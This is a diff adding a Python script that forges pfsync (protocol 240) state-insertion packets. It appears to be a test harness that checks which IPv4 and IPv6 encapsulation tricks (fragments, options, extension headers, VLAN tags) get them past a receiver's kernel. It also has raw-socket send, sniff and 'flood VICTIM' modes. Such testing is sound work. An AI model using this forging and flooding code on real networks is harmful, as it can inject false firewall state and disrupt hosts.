@@ -1,0 +1,175 @@
+# SPDX-License-Identifier: ISC
+"""Forged protocol 240, frame by frame: every way in which a host on the switch can wrap it so that a
+receiver's kernel delivers it. Each packet inserts one state, whose number names the trick.
+
+Programs: forged.py receive            prints the number of each packet that a raw socket gets
+          forged.py leave SOURCE TARGET  sends again and again with a raw socket; prints what left
+          forged.py flood VICTIM SOURCE  forged messages of all kinds, to the end
+          forged.py watch              every interface: prints each clear packet that leaves
+          forged.py send               frames from stdin, in hexadecimal, on eth0
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import itertools
+import select
+import socket
+import struct
+import sys
+import time
+from pathlib import Path
+from typing import Iterable
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+import mallory  # noqa: E402
+
+CREATOR = 0xDEADBEEF
+FRAGMENT, HOP_BY_HOP, DESTINATION = 44, 0, 60
+
+
+def insert(number: int) -> bytes:
+    return mallory.pfsync(mallory.ACTION_INS, mallory.full_state(number, CREATOR))
+
+
+def number_of(payload: bytes) -> int:
+    return int.from_bytes(payload[24:32], "big") - 0x6666000000000000
+
+
+def checksum(header: bytes) -> int:
+    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+class Forger:
+    """From one host's addresses to another's; to_mac is the receiver's."""
+
+    def __init__(self, mac: str, to_mac: str, source: str, target: str, source6: str, target6: str):
+        self.ether = bytes.fromhex((to_mac + mac).replace(":", ""))
+        self.pair4 = socket.inet_aton(source) + socket.inet_aton(target)
+        self.pair6 = ipaddress.ip_address(source6).packed + ipaddress.ip_address(target6).packed
+
+    def frame(self, kind: int, packet: bytes, tag: bytes = b"") -> bytes:
+        return self.ether + tag + struct.pack("!H", kind) + packet
+
+    def v4(self, payload: bytes, protocol: int = 240, ttl: int = 255, flags: int = 0,
+           options: bytes = b"", ident: int = 1) -> bytes:
+        words = 5 + len(options) // 4
+        head = struct.pack("!BBHHHBB", 0x40 | words, 0x10, words * 4 + len(payload), ident, flags,
+                           ttl, protocol)
+        rest = self.pair4 + options
+        return head + struct.pack("!H", checksum(head + b"\0\0" + rest)) + rest + payload
+
+    def v6(self, payload: bytes, following: int = 240, hops: int = 255) -> bytes:
+        return (struct.pack("!IHBB", 6 << 28, len(payload), following, hops) + self.pair6
+                + payload)
+
+    def tricks(self) -> dict[str, list[bytes]]:
+        """The frames by the name of the trick, in the order of their numbers."""
+        made: dict[str, list[bytes]] = {}
+
+        def add(name: str, build) -> None:
+            made[name] = build(insert(len(made) + 1))
+
+        def plain4(**more):
+            return lambda data: [self.frame(0x0800, self.v4(data, **more))]
+
+        def fragments4(data: bytes) -> list[bytes]:
+            ident = 1000 + len(made)
+            return [self.frame(0x0800, self.v4(data[:80], flags=0x2000, ident=ident)),
+                    self.frame(0x0800, self.v4(data[80:], flags=10, ident=ident))]
+
+        def plain6(following: int = 240, before: bytes = b"", **more):
+            return lambda data: [self.frame(0x86DD, self.v6(before + data, following, **more))]
+
+        def part6(following: int, at: int, more: int, data: bytes) -> bytes:
+            head = struct.pack("!BBHI", following, 0, at | more, 7000 + len(made))
+            return self.frame(0x86DD, self.v6(head + data, FRAGMENT))
+
+        padding = bytes((1, 4, 0, 0, 0, 0))  # PadN
+        add("IPv4", plain4())
+        add("TTL 1", plain4(ttl=1))
+        add("TTL 254", plain4(ttl=254))
+        add("IP options", plain4(options=b"\1\1\1\0"))
+        add("fragments", fragments4)
+        add("fragments, last first", lambda data: fragments4(data)[::-1])
+        add("priority tag", lambda data: [self.frame(0x0800, self.v4(data), b"\x81\0\xe0\0")])
+        add("IPv6", plain6())
+        add("hop limit 1", plain6(hops=1))
+        add("hop-by-hop header", plain6(HOP_BY_HOP, bytes((240, 0)) + padding))
+        add("destination options", plain6(DESTINATION, bytes((240, 0)) + padding))
+        add("two extension headers",
+            plain6(HOP_BY_HOP, bytes((DESTINATION, 0)) + padding + bytes((240, 0)) + padding))
+        add("atomic fragment", lambda data: [part6(240, 0, 0, data)])
+        add("IPv6 fragments", lambda data: [part6(240, 0, 1, data[:80]), part6(240, 80, 0, data[80:])])
+        # The first fragment does not show the protocol.
+        chain = bytes((240, 0)) + padding
+        add("protocol in the second fragment",
+            lambda data: [part6(DESTINATION, 0, 1, bytes((DESTINATION, 0)) + padding),
+                          part6(DESTINATION, 8, 0, chain + data)])
+        return made
+
+
+def receive() -> None:
+    sockets = [socket.socket(family, socket.SOCK_RAW, 240)
+               for family in (socket.AF_INET, socket.AF_INET6)]
+    print("listening", flush=True)
+    while True:
+        for ready in select.select(sockets, [], [])[0]:
+            data = ready.recv(65536)
+            if ready is sockets[0]:
+                data = data[(data[0] & 15) * 4 :]
+            print(number_of(data), flush=True)
+
+
+def send(frames: Iterable[str]) -> None:
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
+        wire.bind(("eth0", 0))
+        for frame in frames:
+            wire.send(bytes.fromhex(frame))
+            time.sleep(0.002)  # so that none is lost to a full buffer
+
+
+def leave(source: str, target: str) -> None:
+    """As a program of the node itself would, with a tunnel or without."""
+    packet = mallory.ipv4(source, target, insert(999))
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        print("trying", flush=True)
+        while True:
+            try:
+                raw.sendto(packet, (target, 0))
+                print("left", flush=True)
+            except PermissionError:
+                pass
+            time.sleep(0.01)
+
+
+def flood(victim: str, name: str) -> None:
+    """Every kind of forged message, to the end."""
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        print("flooding", flush=True)
+        for number in itertools.cycle(range(1000)):
+            raw.sendto(mallory.ipv4(name, victim, mallory.forgery(number)), (victim, 0))
+            time.sleep(0.005)
+
+
+def watch() -> None:
+    """Each frame of any interface, enc0 excepted: what is there is a copy for tcpdump."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as every:
+        print("watching", flush=True)
+        while True:
+            data, (interface, kind, packet_type, *_) = every.recvfrom(65536)
+            if packet_type != socket.PACKET_OUTGOING or interface == "enc0":
+                continue
+            if (kind == 0x0800 and data[9] == 240) or (kind == 0x86DD and data[6] == 240):
+                print(interface, flush=True)
+
+
+PROGRAMS = {"flood": flood, "receive": receive, "leave": leave, "watch": watch,
+            "send": lambda: send(sys.stdin)}
+
+if __name__ == "__main__":
+    PROGRAMS[sys.argv[1]](*sys.argv[2:])
